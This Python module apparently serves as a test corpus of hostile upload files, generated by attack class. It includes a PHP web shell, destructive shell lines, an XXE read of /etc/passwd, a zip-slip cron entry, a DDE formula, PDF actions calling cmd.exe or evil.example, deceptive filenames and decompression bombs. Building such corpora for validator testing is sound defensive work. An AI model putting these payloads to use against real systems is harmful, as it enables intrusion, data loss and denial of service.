"""A corpus of files that mean harm, made in memory, by class of attack: each is its name and its bytes."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import cache, partial
from typing import NamedTuple

from PIL import Image, PngImagePlugin

CANARY = b"alert('canary')"
PAGE = b"<html><script>" + CANARY + b"</script></html>"


class Hostile(NamedTuple):
    """One file, as it is sent."""

    name: str
    content: bytes


def picture(form: str = "JPEG", size: tuple[int, int] = (64, 48), **more: object) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", size, "#336699").save(made, form, **more)
    return made.getvalue()


def zipped(entries: dict[str, bytes], level: int = 6) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return made.getvalue()


def office(folder: str = "word", **more: bytes) -> bytes:
    entries = {"[Content_Types].xml": b"<Types/>", f"{folder}/document.xml": b"<w:document/>"}
    return zipped(entries | {name.replace("__", "/").replace("_dot_", "."): body for name, body in more.items()})


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, body: bytes, depth: int = 8, colour: int = 2, before: bytes = b"") -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + before + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def zeros(count: int) -> bytes:
    """So many zero bytes, deflated, made without holding them."""
    packer = zlib.compressobj(1)
    parts = [packer.compress(bytes(1 << 20)) for _ in range(count >> 20)]
    return b"".join([*parts, packer.compress(bytes(count % (1 << 20))), packer.flush()])


def exif(form: str = "JPEG") -> bytes:
    tags = Image.Exif()
    tags[0x010E], tags[0x0110], tags[0x013B] = CANARY.decode(), "Phone X", PAGE.decode()
    tags.get_ifd(0x8825)[1] = "N"
    tags.get_ifd(0x8825)[2] = (23.0, 7.0, 44.0)
    return picture(form, exif=tags)


def ole(*streams: str) -> bytes:
    names = b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in streams)
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + names.ljust(1024, b"\0")


def pdf(body: bytes) -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + body + b" >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


PROGRAMS = (
    b"MZ\x90\0" + bytes(60) + b"PE\0\0", b"\x7fELF\x02\x01\x01" + bytes(60), b"#!/bin/sh\nrm -rf /\n",
    b"#!/usr/bin/env python3\nprint(1)\n", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(30), b"\xcf\xfa\xed\xfe" + bytes(60),
    b"dex\n035\0" + bytes(60), b"\0asm\1\0\0\0", b"L\0\0\0\1\x14\2\0" + bytes(60), b"@echo off\r\nformat c:\r\n",
    b"ITSF\3\0\0\0" + bytes(60), b"CWS\x09" + bytes(60),
)  # fmt: skip


def programs_called_pictures() -> Iterator[Hostile]:
    for place, body in enumerate(PROGRAMS):
        yield Hostile(f"photo{place}.jpg", body)


def pages() -> Iterator[Hostile]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="' + CANARY + b'"/>'
    for place, body in enumerate((
        PAGE, b"  \n\t" + PAGE, b"\xef\xbb\xbf" + PAGE, b"<!DOCTYPE html><p>" + CANARY, svg,
        b"<?xml version='1.0'?>" + svg, b"<?php system($_GET[0]); ?>", b"<!-- -->" + PAGE,
        PAGE.decode().encode("utf-16"), b"words first\n<script>" + CANARY + b"</script>",
        b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + PAGE,
    )):  # fmt: skip
        yield Hostile(f"scan{place}.png", body)


def polyglots() -> Iterator[Hostile]:
    archive = zipped({"a.class": PROGRAMS[4]})
    for form in ("JPEG", "PNG", "GIF", "BMP", "WEBP"):
        yield Hostile(f"and-page.{form.lower()}", picture(form) + PAGE)
        yield Hostile(f"and-archive.{form.lower()}", picture(form) + archive)
    yield Hostile("gif.js", b"GIF89a=1;" + CANARY)
    yield Hostile("pdf.html", pdf(b"") + PAGE)


def bombs_of_archives() -> Iterator[Hostile]:
    big = bytes(120 << 20)
    flat = zipped({"[Content_Types].xml": b"", "word/document.xml": big}, level=1)
    yield Hostile("flat.docx", flat)
    yield Hostile("flat.xlsx", flat.replace(b"word/document.xml", b"xl/workbooks1.xml"))
    yield Hostile("nested.docx", zipped({"inner.zip": flat}))
    yield Hostile("many.docx", office(**{f"word__{place}": b"" for place in range(6000)}))
    table = b"PK\x03\x04" + bytes(100) + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, 0x7FFFFFFF, 100, 0)
    yield Hostile("table.docx", table)
    yield Hostile("zip64.docx", b"PK\x03\x04" + bytes(80) + b"PK\6\7" + bytes(16) + b"PK\5\6" + bytes(18))


def archives() -> Iterator[Hostile]:
    inner = zipped({"a.exe": PROGRAMS[0]})
    yield Hostile("a.zip", inner)
    yield Hostile("b.jpg", zipped({"b.zip": zipped({"c.zip": inner})}))
    yield Hostile("app.docx", zipped({"META-INF/MANIFEST.MF": b"", "classes.dex": PROGRAMS[6]}))
    for place, start in enumerate((b"Rar!\x1a\7\0", b"7z\xbc\xaf\x27\x1c", b"\x1f\x8b\x08", b"BZh9", b"\xfd7zXZ\0")):
        yield Hostile(f"{place}.pdf", start + bytes(100))
    yield Hostile("tar.txt", b"a".ljust(257, b"\0") + b"ustar\0" + bytes(300))
    yield Hostile("slip.docx", zipped({"../../etc/cron.d/x": b"* * * * *"}))


def bombs_of_pixels() -> Iterator[Hostile]:
    yield Hostile("20000.png", png(20_000, 20_000, zeros(1 << 20)))
    yield Hostile("wide.png", png(8_000_000, 2, zeros(48_000_002)))
    yield Hostile("grey.png", png(6000, 6000, zeros(6000 * 6001), colour=0))
    yield Hostile("just.png", png(4800, 4800, zeros(4800 * 14401)))
    yield Hostile("16bit.png", png(4000, 4000, zeros(4000 * 32001), depth=16, colour=6))
    yield Hostile("more.png", png(100, 100, zeros(64 << 20)))
    yield Hostile("words.png", png(10, 10, zeros(310), before=chunk(b"zTXt", b"a\0\0" + zeros(64 << 20))))
    yield Hostile("profile.png", png(10, 10, zeros(310), before=chunk(b"iCCP", b"a\0\0" + zeros(64 << 20))))


def headers_that_lie() -> Iterator[Hostile]:
    sizes = ((1 << 31) - 1, 65_535, 1 << 20)
    for size in sizes:
        yield Hostile(f"{size}.png", png(size, size, b"x"))
        yield Hostile(f"{size}.gif", b"GIF89a" + struct.pack("<HH", size & 0xFFFF, size & 0xFFFF) + bytes(20))
        head = struct.pack("<IiiHHIIiiII", 40, size, -size, 1, 24, 0, 0, 0, 0, 0, 0)
        yield Hostile(f"{size}.bmp", b"BM" + struct.pack("<IHHI", 54, 0, 0, 54) + head)
    sof = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xc0\0\x11\x08\xff\xdc\xff\xdc\3\1\x22\0\2\x11\1\3\x11\1"
    yield Hostile("jpeg.jpg", sof + b"\xff\xd9")
    yield Hostile("vp8.webp", b"RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0\x2f\xff\xff\xff\x0f" + bytes(9))


def broken_pictures() -> Iterator[Hostile]:
    for form in ("JPEG", "PNG", "GIF", "WEBP", "BMP"):
        whole = picture(form, (300, 200))
        yield Hostile(f"half.{form.lower()}", whole[: len(whole) // 2])
        yield Hostile(f"start.{form.lower()}", whole[:32])
    yield Hostile("noise.jpg", b"\xff\xd8\xff\xe0" + bytes(range(256)) * 40)
    yield Hostile("noise.png", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40)


def wrong_beginnings() -> Iterator[Hostile]:
    for name, body in (
        ("png.jpg", picture("PNG")), ("jpg.pdf", picture()), ("pdf.jpg", pdf(b"")), ("gif.docx", picture("GIF")),
        ("noise.docx", b"PK\3\4" + bytes(range(256))), ("nothing.xls", bytes(4096)), ("random.bin", bytes(range(256))),
        ("ole.doc", ole("Something")), ("installer.xls", ole("MsiFileHash")), ("rtf.doc", b"{\\rtf1\\objdata 0105}"),
        ("postscript.pdf", b"%!PS-Adobe-3.0\n(/etc/passwd) run"),
    ):  # fmt: skip
        yield Hostile(name, body)


def macros() -> Iterator[Hostile]:
    yield Hostile("a.docx", office(word__vbaProject_dot_bin=b"x"))
    yield Hostile("b.xlsx", office("xl", xl__vbaProject_dot_bin=b"x"))
    yield Hostile("c.xlsx", office("xl", xl__macrosheets__sheet1_dot_xml=b"x"))
    yield Hostile("d.docm", office())
    yield Hostile("e.doc", ole("WordDocument", "_VBA_PROJECT"))
    yield Hostile("f.xls", ole("Workbook", "VBA_PROJECT_CUR"))
    yield Hostile("g.docx", office(word__embeddings__oleObject1_dot_bin=PROGRAMS[0]))
    kind = "application/vnd.oasis.opendocument.text"
    yield Hostile("h.odt", zipped({"mimetype": kind.encode(), "Basic/Standard/a.xml": b"x"}))


def pdfs_that_act() -> Iterator[Hostile]:
    for place, body in enumerate((
        b"/OpenAction << /S /JavaScript /JS (app." + CANARY + b") >>", b"/AA << /O << /S /Launch /F (cmd.exe) >> >>",
        b"/Names << /EmbeddedFiles << /EmbeddedFile 2 0 R >> >>", b"/AcroForm << /XFA 3 0 R >>",
        b"/OpenAction << /S /SubmitForm /F (http://evil.example) >>", b"/RichMedia 4 0 R", b"/Author (" + CANARY + b")",
    )):  # fmt: skip
        yield Hostile(f"{place}.pdf", pdf(body))


def pictures_that_tell() -> Iterator[Hostile]:
    yield Hostile("place.jpg", exif())
    yield Hostile("place.png", exif("PNG"))
    yield Hostile("place.webp", exif("WEBP"))
    told = PngImagePlugin.PngInfo()
    told.add_itxt("Comment", PAGE.decode() * 100)
    yield Hostile("words.png", picture("PNG", pnginfo=told))
    yield Hostile("comment.jpg", picture(comment=PAGE))
    yield Hostile("profile.jpg", picture(icc_profile=CANARY * 100))
    yield Hostile("comment.gif", picture("GIF", comment=PAGE[:200]))


def formulas() -> Iterator[Hostile]:
    for place, start in enumerate(
        ("=cmd|'/c calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", '"=HYPERLINK(""http://x"")"')
    ):
        yield Hostile(f"books{place}.csv", f"名称,金额\n{start},600\n".encode("gb18030" if place % 2 else "utf-8"))
    yield Hostile("=1+1.csv", b"a,b\n1,2\n")


def names_that_deceive() -> Iterator[Hostile]:
    for name in (
        "发票\u202egpj.exe", "photo\u202e\u2066fdp.jpg", "a" * 300 + ".jpg", "票" * 300 + ".jpg", "../../etc/passwd",
        "..\\..\\windows\\system32\\a.jpg", "a\0.jpg", "nul\0byte.exe.jpg", "CON", "aux.jpg", ".htaccess", "...", "  ",
        "a\r\nSet-Cookie: x=1.jpg", 'a";filename="b.exe', "<img src=x onerror=alert(1)>.jpg", "%2e%2e%2fa.jpg",
        "\u200b\u200b.jpg", "a.jpg.exe", "invoice.jpg ", "a.pdf.lnk", "x" * 5000, "🧾📷.jpg", "a:b?c*d|e.jpg",
        "\ud800.jpg",
    ):  # fmt: skip
        yield Hostile(name, picture())


def scripts_by_name() -> Iterator[Hostile]:
    for ending in ("js", "vbs", "bat", "ps1", "hta", "html", "svg", "lnk", "url", "jar"):
        yield Hostile(f"list.{ending}", b"just some words\n")


CLASSES = {
    each.__name__: cache(partial(list, each()))
    for each in (
        programs_called_pictures, pages, polyglots, bombs_of_archives, archives, bombs_of_pixels, headers_that_lie,
        broken_pictures, wrong_beginnings, macros, pdfs_that_act, pictures_that_tell, formulas, names_that_deceive,
        scripts_by_name,
    )
}  # fmt: skip
REFUSED = {"programs_called_pictures", "pages", "bombs_of_archives", "archives", "scripts_by_name"}
"""Classes of which nothing is taken."""
